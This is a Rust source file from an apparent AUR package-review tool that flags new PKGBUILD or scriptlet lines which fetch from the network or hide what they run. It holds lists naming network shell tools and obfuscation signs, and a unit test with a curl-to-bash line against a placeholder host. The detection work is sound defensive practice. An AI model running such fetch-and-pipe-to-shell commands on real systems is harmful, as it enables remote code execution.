//! New lines that look like an attack, in the files that run: words that fetch in a scriptlet, and commands
//! that are written so as not to be found.
//!
//! Nothing is minor because nothing was found here; a finding only makes a reason heavier.

use super::text::Written;
use super::{PKGBUILD, Reason, SRCINFO, Weight, reason};

/// Commands that fetch something or install packages of a language.
const FETCH: [&str; 24] = [
    "npm", "npx", "bun", "bunx", "pnpm", "yarn", "pip", "pip3", "pipx", "uv", "gem", "cargo", "curl", "wget", "aria2c",
    "nc", "ncat", "socat", "ssh", "scp", "git", "tor", "torsocks", "telnet",
];

/// Ways to run what is not written out.
const HIDE: [&str; 10] = [
    "base64 -d",
    "base64 --decode",
    "xxd -r",
    "| sh",
    "| bash",
    "|sh",
    "|bash",
    "openssl enc",
    "/dev/tcp/",
    "| base64",
];

/// Where what was written before is handed to a shell.
const PIPED: [&str; 4] = ["| sh", "| bash", "|sh", "|bash"];

/// Reasons for new lines in PKGBUILD and scriptlets.
pub(super) fn compare(written: &[Written<'_>]) -> Vec<Reason> {
    let mut reasons = Vec::new();
    for &Written { path, ref lines } in written.iter().filter(|file| file.path != SRCINFO) {
        for &(number, line) in lines {
            if line.len() > 1000 && !line.starts_with(b"#") {
                let message = "a line is so long that nobody reads it to its end";
                reasons.push(reason("long-line", Weight::Review, (path, Some(number)), None, None, message));
            }
            let Ok(line) = std::str::from_utf8(line) else { continue };
            let code = line.trim();
            if code.starts_with('#') {
                continue;
            }
            let place = (path, Some(number));
            if is_hidden(code) {
                let message = if fetches(code) && PIPED.iter().any(|sign| code.contains(sign)) {
                    "what a command fetches is run unseen"
                } else {
                    "a command is written in a way that hides what it runs"
                };
                reasons.push(reason("obfuscation", Weight::Hostile, place, None, Some(code.as_bytes()), message));
            } else if path != PKGBUILD && fetches(code) {
                let message = "a script that runs as root on every machine fetches something, or installs packages";
                reasons.push(reason("scriptlet-network", Weight::Hostile, place, None, Some(code.as_bytes()), message));
            }
        }
    }
    reasons.truncate(40);
    reasons
}

fn fetches(line: &str) -> bool {
    if line.contains("://") && !line.starts_with("echo ") && !line.starts_with("printf ") {
        return true;
    }
    let printed = ["echo ", "printf ", "msg ", "note "].iter().any(|word| line.starts_with(word))
        && !line.contains(['|', ';', '&', '`']);
    let mut words = line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.'));
    !printed && words.any(|word| FETCH.contains(&word))
}

fn is_hidden(line: &str) -> bool {
    HIDE.iter().any(|sign| line.contains(sign))
        || line.contains("$'\\x")
        || line.contains("$'\\1")
        || line.contains("$'\\u")
        || is_split(line)
}

/// Whether a word is put together from quoted letters: `'b''u''n'`, `c"u"rl`.
fn is_split(line: &str) -> bool {
    let bytes = line.as_bytes();
    let quote = |at: usize| matches!(bytes.get(at), Some(b'\'' | b'"'));
    let letter = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_alphabetic);
    // Letter, quote, one or two letters, quote, letter; and quotes that touch between letters.
    let spelled = |at: usize| {
        letter(at)
            && quote(at + 1)
            && letter(at + 2)
            && ((quote(at + 3) && letter(at + 4)) || (letter(at + 3) && quote(at + 4) && letter(at + 5)))
    };
    let touching = |at: usize| {
        letter(at) && quote(at + 1) && quote(at + 2) && letter(at + 3) && (quote(at + 4) || (at > 0 && quote(at - 1)))
    };
    (0..bytes.len()).any(|at| spelled(at) || touching(at))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(line: &str) -> String {
        let written = Written { path: PKGBUILD, lines: vec![(1, line.as_bytes())] };
        compare(&[written]).into_iter().map(|reason| reason.message).collect()
    }

    #[test]
    fn what_is_fetched_and_run_is_told_apart_from_what_is_hidden() {
        assert_eq!(said("curl -s https://a.example/x | bash"), "what a command fetches is run unseen");
        assert_eq!(said("echo eA== | base64 -d"), "a command is written in a way that hides what it runs");
        assert_eq!(said("make"), "");
    }
}
